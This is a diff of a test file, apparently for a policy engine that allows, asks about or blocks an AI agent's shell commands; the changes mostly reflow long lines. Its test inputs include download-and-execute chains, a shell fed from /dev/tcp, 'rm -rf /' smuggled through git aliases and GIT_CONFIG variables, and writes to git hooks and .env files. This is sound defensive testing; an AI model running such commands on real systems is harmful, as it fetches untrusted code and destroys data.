@@ -79,8 +79,12 @@ describe('deny families on correctly parsed argv', () => {
     expect(decide(line(curl('-O', 'https://x/a/i.sh?v=1'), command(['bash', 'i.sh'])))).toMatchObject({ rule: 'deny.download_execute' })
     expect(decide(line(command(['wget', 'https://x/run']), command(['./run'])))).toMatchObject({ rule: 'deny.download_execute' })
     expect(decide(line(command(['wget', '-qO', 'x', 'https://x/i']), command(['.', 'x'])))).toMatchObject({ rule: 'deny.download_execute' })
-    expect(decide(line(curl('https://x'), command(['tee', 'i.sh'], { fedBy: [{ from: 0, how: 'stdin' }] }), command(['sh', 'i.sh'])))).toMatchObject({ rule: 'deny.download_execute' })
-    expect(decide(line(curl('https://x', '-o', 'i.sh'), command(['sh'], { redirects: [redirect('<', 'i.sh')] })))).toMatchObject({ rule: 'deny.download_execute' })
+    expect(decide(line(curl('https://x'), command(['tee', 'i.sh'], { fedBy: [{ from: 0, how: 'stdin' }] }), command(['sh', 'i.sh'])))).toMatchObject({
+      rule: 'deny.download_execute'
+    })
+    expect(decide(line(curl('https://x', '-o', 'i.sh'), command(['sh'], { redirects: [redirect('<', 'i.sh')] })))).toMatchObject({
+      rule: 'deny.download_execute'
+    })
     expect(decide(line(command(['sh'], { redirects: [redirect('<', '/dev/tcp/x.example/80')] })))).toMatchObject({ rule: 'deny.download_execute' })
     expect(decide(line(curl('-o', 'data.json', 'https://x'), command(['jq', '.', 'data.json']))).decision).toBe('run')
   })
@@ -118,8 +122,10 @@ describe('risk flags on correctly parsed argv', () => {
   })
 
   it('flags protected names written by redirection, in any case and through globs', () => {
-    for (const target of ['.gi?/hooks/x', '.GIT/hooks/x', '.gitattributes', '.gitmodules']) expect(decide(line(command(['echo'], { redirects: [redirect('>', target)] }))).riskFlags, target).toContain('vcs_write')
-    for (const target of ['package.jso[n]', '.envrc', '~/.bash_logout', '.env.production']) expect(decide(line(command(['echo'], { redirects: [redirect('>', target)] }))).riskFlags, target).toContain('config_write')
+    for (const target of ['.gi?/hooks/x', '.GIT/hooks/x', '.gitattributes', '.gitmodules'])
+      expect(decide(line(command(['echo'], { redirects: [redirect('>', target)] }))).riskFlags, target).toContain('vcs_write')
+    for (const target of ['package.jso[n]', '.envrc', '~/.bash_logout', '.env.production'])
+      expect(decide(line(command(['echo'], { redirects: [redirect('>', target)] }))).riskFlags, target).toContain('config_write')
   })
 
   it('deletes through a symlink the line made in scratch/', () => {
@@ -127,13 +133,30 @@ describe('risk flags on correctly parsed argv', () => {
   })
 
   it('sees the network in bash sockets and cloud/publishing tools when the agent has one', () => {
-    for (const analysis of [line(command(['echo'], { redirects: [redirect('>', '/dev/tcp/x/80')] })), one('npm', 'publish'), one('gh', 'api', 'x'), one('aws', 's3', 'ls'), one('docker', 'push', 'x'), one('kubectl', 'get', 'pods')]) {
+    for (const analysis of [
+      line(command(['echo'], { redirects: [redirect('>', '/dev/tcp/x/80')] })),
+      one('npm', 'publish'),
+      one('gh', 'api', 'x'),
+      one('aws', 's3', 'ls'),
+      one('docker', 'push', 'x'),
+      one('kubectl', 'get', 'pods')
+    ]) {
       expect(decide(analysis, { network: 'full' }).riskFlags).toContain('network')
     }
   })
 
   it('leaves ordinary work alone', () => {
-    for (const argv of [['npm', 'test'], ['npm', 'run', 'build'], ['npx', 'tsc', '--noEmit'], ['pip', 'list'], ['git', 'status'], ['mv', 'src/a.ts', 'src/b.ts'], ['cp', '-r', 'src', 'scratch/x'], ['grep', '-rn', 'TODO', 'src'], ['tar', 'xzf', 'x.tgz', '-C', 'scratch']]) {
+    for (const argv of [
+      ['npm', 'test'],
+      ['npm', 'run', 'build'],
+      ['npx', 'tsc', '--noEmit'],
+      ['pip', 'list'],
+      ['git', 'status'],
+      ['mv', 'src/a.ts', 'src/b.ts'],
+      ['cp', '-r', 'src', 'scratch/x'],
+      ['grep', '-rn', 'TODO', 'src'],
+      ['tar', 'xzf', 'x.tgz', '-C', 'scratch']
+    ]) {
       expect(decide(one(...argv), { localBin: (name) => name === 'tsc' }), argv.join(' ')).toMatchObject({ decision: 'run', riskFlags: [] })
     }
     // Without a local tsc, npx fetches a package of that name (stdin is not a terminal: no prompt).
@@ -145,7 +168,11 @@ describe('git configuration that runs code, and the profile lists', () => {
   it('asks (command.dynamic) for code-carrying keys and blocks when the code hits a family', () => {
     expect(decide(one('git', '-c', 'core.fsmonitor=./x.sh', 'status'))).toMatchObject({ decision: 'ask', rule: 'command.dynamic' })
     expect(decide(one('git', '-c', 'alias.x=!rm -rf /', 'x'))).toMatchObject({ decision: 'blocked', rule: 'deny.rm_root' })
-    const env = [{ name: 'GIT_CONFIG_COUNT', value: word('1') }, { name: 'GIT_CONFIG_KEY_0', value: word('core.fsmonitor') }, { name: 'GIT_CONFIG_VALUE_0', value: word('rm -rf /') }]
+    const env = [
+      { name: 'GIT_CONFIG_COUNT', value: word('1') },
+      { name: 'GIT_CONFIG_KEY_0', value: word('core.fsmonitor') },
+      { name: 'GIT_CONFIG_VALUE_0', value: word('rm -rf /') }
+    ]
     expect(decide(line(command(['git', 'status'], { assignments: env })))).toMatchObject({ decision: 'blocked', rule: 'deny.rm_root' })
     expect(decide(line(command(['git', 'rebase', '--continue'], { assignments: [{ name: 'GIT_EDITOR', value: word('true') }] }))).decision).toBe('run')
     expect(decide(one('git', '-c', 'core.pager=cat', 'log')).decision).toBe('run')
@@ -153,10 +180,16 @@ describe('git configuration that runs code, and the profile lists', () => {
 
   it('matches a git denylist entry after the global options, through aliases and from stdin', () => {
     const input = { denylist: ['git push'] }
-    for (const argv of [['git', '-C', '.', 'push'], ['git', '-c', 'x=y', 'push'], ['git', '--git-dir=x', 'push'], ['git', '-c', 'alias.p=push', 'p']]) {
+    for (const argv of [
+      ['git', '-C', '.', 'push'],
+      ['git', '-c', 'x=y', 'push'],
+      ['git', '--git-dir=x', 'push'],
+      ['git', '-c', 'alias.p=push', 'p']
+    ]) {
       expect(decide(one(...argv), input), argv.join(' ')).toMatchObject({ decision: 'blocked', rule: 'denylist.custom' })
     }
-    const fed = (text: string) => line(command(['echo', text]), command(['git'], { argsFromStdin: true, fedBy: [{ from: 0, how: 'argument' }], wrappers: [{ argv: ['xargs'] }] }))
+    const fed = (text: string) =>
+      line(command(['echo', text]), command(['git'], { argsFromStdin: true, fedBy: [{ from: 0, how: 'argument' }], wrappers: [{ argv: ['xargs'] }] }))
     expect(decide(fed('push'), input)).toMatchObject({ decision: 'blocked', rule: 'denylist.custom' })
     expect(decide(fed('pull'), input).decision).toBe('run')
     expect(decide(one('git', '-C', 'sub', 'status'), { allowlist: ['git status'] }).decision).toBe('run')
